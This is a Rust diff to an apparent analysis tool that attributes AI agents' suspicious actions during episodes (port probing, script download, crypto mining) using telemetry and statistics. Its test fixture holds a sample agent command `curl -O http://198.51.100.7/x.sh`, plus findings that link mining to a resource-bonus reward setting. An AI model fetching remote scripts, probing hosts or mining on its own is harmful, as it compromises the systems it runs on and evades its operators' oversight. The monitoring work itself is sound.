@@ -1,5 +1,7 @@
 //! `analyze --format jsonl` and `findings.jsonl`: an analysis as lines.
 
+mod rates;
+
 use std::collections::BTreeSet;
 
 use serde::Serialize;
@@ -9,9 +11,7 @@ use super::when::{rfc3339, seconds, six_digits};
 use super::{Reading, escape};
 use crate::correlate::drift::ClockSegment;
 use crate::correlate::stability::Stability;
-use crate::correlate::{
-    Alignment, AlignmentTest, Analysis, Clock, ConfigRate, Finding, Judgement, Rival, StepRef, Term,
-};
+use crate::correlate::{Alignment, AlignmentTest, Analysis, Clock, Finding, Judgement, Rival, StepRef, Term};
 use crate::evidence::{EvidenceId, Record};
 use crate::intake::Source;
 use crate::model::{Signal, SignalSource};
@@ -174,21 +174,9 @@ fn summary(analysis: &Analysis, reading: &Reading) -> SummaryLine {
         sources: analysis.sources.len(),
         unread_records: analysis.sources.iter().fold(0, |sum, source| sum.saturating_add(source.unread)),
         alignment: analysis.alignment.as_ref().map(alignment),
-        rates: analysis.rates.iter().map(rate).collect(),
-        preceding: analysis
-            .preceding
-            .iter()
-            .map(|one| PrecedingLine {
-                behaviour: one.behaviour.name().to_owned(),
-                what: one.what.clone(),
-                before: one.before,
-                of: one.of,
-                others_with: one.others_with,
-                others: one.others,
-                p: six_digits(one.p),
-                adjusted: six_digits(one.adjusted),
-            })
-            .collect(),
+        rates: analysis.rates.iter().map(rates::rate).collect(),
+        recurrence: analysis.recurrence.iter().map(rates::recurrence).collect(),
+        preceding: analysis.preceding.iter().map(rates::preceding).collect(),
         limits: analysis.limits.clone(),
         not_read: reading.problems(analysis),
     }
@@ -219,22 +207,6 @@ fn alignment(alignment: &Alignment) -> AlignmentLine {
             .collect(),
         withheld: alignment.withheld.clone(),
         sentences: alignment.sentences.clone(),
-    }
-}
-
-fn rate(rate: &ConfigRate) -> RateLine {
-    RateLine {
-        group: rate.group.to_owned(),
-        name: rate.name.clone(),
-        behaviour: rate.behaviour.map(|behaviour| behaviour.name().to_owned()),
-        flagged: rate.flagged,
-        episodes: rate.episodes,
-        interval: six_digits(rate.interval.0).zip(six_digits(rate.interval.1)).map(|(low, high)| [low, high]),
-        onsets: rate.onsets,
-        hours: rate.hours.and_then(six_digits),
-        per_hour: rate.per_hour.and_then(|(low, high)| Some([six_digits(low)?, six_digits(high)?])),
-        first_step: rate.first_step,
-        first_after_s: rate.first_after_s.and_then(six_digits),
     }
 }
 
@@ -464,7 +436,7 @@ mod tests {
         {"type":"unexplained","behaviour":"probing","signals":["S-0003"],"leading":"external-compromise","summary":"40 ports of 10.30.0.20 in 2.0 s","rivals":[{"hypothesis":"agent","log10_lr":0.0,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-0.02},{"observable":"onsets while no step ran","log10_p":-0.1,"judged":true}],"inconsistent":0},{"hypothesis":"external-compromise","log10_lr":-3.1,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-3.1},{"observable":"onsets while no step ran","log10_p":-0.12,"judged":true}],"inconsistent":1}],"judgement":{"rows":[{"row":"literal-in-agent-text","observable":"the peer's address stands in the agent's own words before the event","counts":"in 0 of 8 412 benign commands","spread":3.08,"leader_without":"undecided"},{"row":"outside-of-steps","observable":"onsets while no step ran","spread":0.02,"leader_without":"agent"},{"row":"other-hosts","observable":"no host without agents does the same","spread":0.01,"not_counted":true,"leader_without":"agent"}],"overturned_without":["literal-in-agent-text"],"overturning_sets":1,"missing":[{"source":"the host's auth log","expected_spread":0.7}]},"would_decide":["the jump host's auth log"]}
         {"type":"uncovered","behaviour":"download","episode":"ep-001","step":{"index":2,"path":"transcripts/ep-001.jsonl","locator":"line 6","time":"2026-11-20T14:13:56.000000000Z","time_hi":"2026-11-20T14:13:58.000000000Z","tool":"Bash","command":"curl -O http://198.51.100.7/x.sh"},"rule":"command-download","coverage":"no telemetry covers this time"}
         {"type":"anomaly","path":"capture.pcap","locator":"packet 1204","anomaly":"truncated-record","detail":"1514 bytes announced, 20 left","of":1}
-        {"type":"summary","schema":1,"status":"complete","episodes":2,"flagged":1,"findings":2,"unexplained":1,"uncovered":1,"sources":5,"unread_records":2,"alignment":{"onsets":9,"in_window":9,"expected":0.2,"p":3e-6,"positive_control":{"onsets":48,"in_window":46,"expected":9.0,"p":1e-20},"negative_exposure":{"onsets":9,"in_window":1,"expected":0.9,"p":0.61},"negative_outcome":{"onsets":9,"in_window":2,"expected":1.7,"p":0.33},"jitter_s":120.0,"window_s":[0.4,6.4],"duty_cycle":0.182,"at_gaps":[{"gap":"gap/3","onsets":12,"in_window":12,"expected":0.3,"p":0.00003}]},"rates":[{"group":"reward-config","name":"resource-bonus","flagged":1,"episodes":1,"interval":[0.025,1.0],"onsets":2,"hours":0.25,"per_hour":[0.97,28.9],"first_step":4.0,"first_after_s":30.0},{"group":"reward-config","name":"task-only","flagged":0,"episodes":1,"interval":[0.0,0.975],"onsets":0,"hours":0.25},{"group":"run","name":"run-a","flagged":1,"episodes":2,"interval":[0.0126,0.9874],"onsets":2,"hours":0.5,"per_hour":[0.97,28.9],"first_step":4.0,"first_after_s":30.0}],"preceding":[{"behaviour":"mining","what":"program nvidia-smi","before":3,"of":3,"others_with":0,"others":5,"p":0.017857,"adjusted":0.035714}],"limits":["the capture covers 60 % of the time of the episodes"]}
+        {"type":"summary","schema":1,"status":"complete","episodes":2,"flagged":1,"findings":2,"unexplained":1,"uncovered":1,"sources":5,"unread_records":2,"alignment":{"onsets":9,"in_window":9,"expected":0.2,"p":3e-6,"positive_control":{"onsets":48,"in_window":46,"expected":9.0,"p":1e-20},"negative_exposure":{"onsets":9,"in_window":1,"expected":0.9,"p":0.61},"negative_outcome":{"onsets":9,"in_window":2,"expected":1.7,"p":0.33},"jitter_s":120.0,"window_s":[0.4,6.4],"duty_cycle":0.182,"at_gaps":[{"gap":"gap/3","onsets":12,"in_window":12,"expected":0.3,"p":0.00003}]},"rates":[{"group":"reward-config","name":"resource-bonus","flagged":1,"episodes":1,"interval":[0.025,1.0],"onsets":2,"hours":0.25,"per_hour":[0.97,28.9],"first_step":4.0,"first_after_s":30.0},{"group":"reward-config","name":"task-only","flagged":0,"episodes":1,"interval":[0.0,0.975],"onsets":0,"hours":0.25},{"group":"run","name":"run-a","flagged":1,"episodes":2,"interval":[0.0126,0.9874],"onsets":2,"hours":0.5,"per_hour":[0.97,28.9],"first_step":4.0,"first_after_s":30.0}],"recurrence":[{"question":"dispersion over runs","units":2,"onsets":2,"exposure":"hours","least_p":0.5,"reading":"not asked: 2 onsets over 2 runs can reach P = 0.50 at the least"}],"preceding":[{"behaviour":"mining","what":"program nvidia-smi","before":3,"of":3,"others_with":0,"others":5,"p":0.017857,"adjusted":0.035714}],"limits":["the capture covers 60 % of the time of the episodes"]}
         "#);
     }
 
